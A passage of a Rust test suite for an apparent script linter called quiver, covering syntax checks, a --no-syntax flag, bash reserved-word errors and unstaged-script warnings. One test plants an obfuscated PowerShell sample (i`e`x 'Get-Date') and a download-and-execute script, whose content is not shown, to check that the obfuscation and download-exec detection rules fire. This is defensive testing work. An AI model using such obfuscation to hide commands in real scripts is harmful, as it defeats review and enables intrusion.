                .and_then(|f| f.as_str())
            {
                let name = dir.file_name().unwrap().to_string_lossy();
                entries.push(format!("example-library/{name}/{file}"));
            }
        }
    }
    assert!(
        entries.iter().any(|e| e.ends_with(".ps1")) && entries.len() >= 10,
        "Windows and macOS entries: {entries:?}"
    );
    let syntax: Vec<_> = all
        .iter()
        .filter(|(r, file, _)| r.starts_with("syntax.") && entries.contains(file))
        .collect();
    assert!(
        syntax.is_empty(),
        "parse findings in Windows/macOS scripts of example-library: {syntax:#?}"
    );
    assert_eq!(out.status.code(), Some(0), "findings: {all:?}");
    assert!(report["scripts"].as_u64().unwrap_or(0) >= 13);
    // And the human report ends with the summary line.
    let out = std::process::Command::new(quiver_tests::bin("quiver"))
        .current_dir(&root)
        .args(["lint", "example-library"])
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let last = stdout.lines().last().unwrap_or_default();
    assert!(last.starts_with("linted "), "{stdout}");
    assert_eq!(out.status.code(), Some(0), "{stdout}");
}

#[test]
fn no_syntax_skips_parsing_and_says_so() {
    let repo = Repo::new();
    repo.script(
        "broken",
        "windows",
        "powershell",
        "run.ps1",
        "function Get-Stuff {\n    Get-Process\n\nGet-Stuff\n",
    )
    .script(
        "ticks",
        "windows",
        "powershell",
        "run.ps1",
        "i`e`x 'Get-Date'\n",
    )
    .script("stage", "windows", "powershell", "stage.ps1", DOWNLOAD_EXEC);
    let full = repo.lint(&[]);
    full.assert_finding("syntax.powershell", "library/broken/run.ps1:1");
    full.assert_finding("obfuscation.dynamic-invoke", "library/ticks/run.ps1:1");
    let quick = repo.lint(&["--no-syntax"]);
    // The parse and the command rules are skipped; regex rules and the rest still run.
    quick.assert_no("syntax.powershell");
    quick.assert_no_under("obfuscation.dynamic-invoke", "library/ticks/");
    quick.assert_finding("download-exec.powershell", "library/stage/stage.ps1:3");
    quick.assert_code(1);
    let last = quick.stdout.lines().last().unwrap_or_default();
    assert!(last.starts_with("linted 3 scripts, "), "{last}");
    assert!(last.ends_with("; syntax not checked"), "{last}");
    let last = full.stdout.lines().last().unwrap_or_default();
    assert!(!last.contains("syntax not checked"), "{last}");
    let run = repo.lint(&["--no-syntax", "--format", "json"]);
    let report: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
    assert_eq!(report["syntax_checked"], false);
}

// ---- syntax.shell: reserved words bash rejects (stray `fi`, `if then`) -----------------

#[test]
fn stray_reserved_words_in_bash_are_syntax_errors_at_their_line() {
    // Line 4 of an otherwise valid script, as `bash -n` reports it: a reserved word as a
    // command, and a dangling `if` (once reported at `set -u` on line 2).
    let script = |line: &str| format!("#!/usr/bin/env bash\nset -u\necho a\n{line}\necho b\n");
    let repo = Repo::new();
    for (name, line) in [
        ("fi", "fi"),
        ("done", "done"),
        ("esac", "esac"),
        ("brace", "}"),
        ("then", "echo x; then"),
        ("if-then", "if then"),
        // Near misses: quoted or escaped it is a plain command name, and an argument.
        ("quoted", "\"fi\" 2>/dev/null || true"),
        ("escaped", "\\fi 2>/dev/null || true"),
        ("argument", "echo fi done esac }"),
    ] {
        repo.script(name, "linux", "bash", "hello.sh", script(line));
    }
    let run = repo.lint(&[]);
    run.assert_code(1);
    for (name, col) in [
        ("fi", 1),
        ("done", 1),
        ("esac", 1),
        ("brace", 1),
        ("then", 9),
        ("if-then", 4),
    ] {
        run.assert_finding("syntax.shell", &format!("library/{name}/hello.sh:4:{col}"));
    }
    let line = run.lines_with("syntax.shell").join("\n");
    assert!(line.contains("unexpected `then`"), "{line}");
    assert!(!line.contains("set -u"), "{line}");
    assert!(line.contains(": deny "), "a parse error blocks: {line}");
    for name in ["quoted", "escaped", "argument"] {
        run.assert_no_under("syntax.shell", &format!("library/{name}/"));
    }
}

#[test]
fn a_script_no_device_group_stages_is_warned_about() {
    let repo = Repo::new();
    repo.script(
        "win-info",
        "windows",
        "powershell",
        "info.ps1",
        "Get-Date\n",
    )
    .script(
        "linux-info",
        "linux",
        "bash",
        "info.sh",
        "#!/bin/bash\nid\n",
    )
    .policy(
        "targets.toml",
        "[[group]]\nid = \"linux\"\nplatform = \"linux\"\nscripts = [\"*\"]\n",
    );
    let (code, report) = repo.lint_json();
    assert_eq!(code, 0, "a warning does not fail the lint: {report}");
    let warnings: Vec<String> = report["warnings"]
        .as_array()
        .expect("warnings")
        .iter()
        .map(|w| w["message"].as_str().unwrap_or("").to_string())
        .collect();
    assert!(
        warnings
            .iter()
            .any(|w| w.contains("`win-info` (windows) is staged on no device group")),
        "{warnings:?}"
    );
    assert!(
        !warnings.iter().any(|w| w.contains("linux-info")),
        "{warnings:?}"
    );
    // Once a windows group lists it, the warning goes.
    repo.policy(
        "windows.toml",
        "[[group]]\nid = \"windows\"\nplatform = \"windows\"\nscripts = [\"win-*\"]\n",
    );
    let (_, report) = repo.lint_json();
    assert!(
        !report["warnings"]
            .as_array()
            .expect("warnings")
            .iter()
            .any(|w| w["message"].as_str().unwrap_or("").contains("staged on no")),
        "{report}"
    );
}
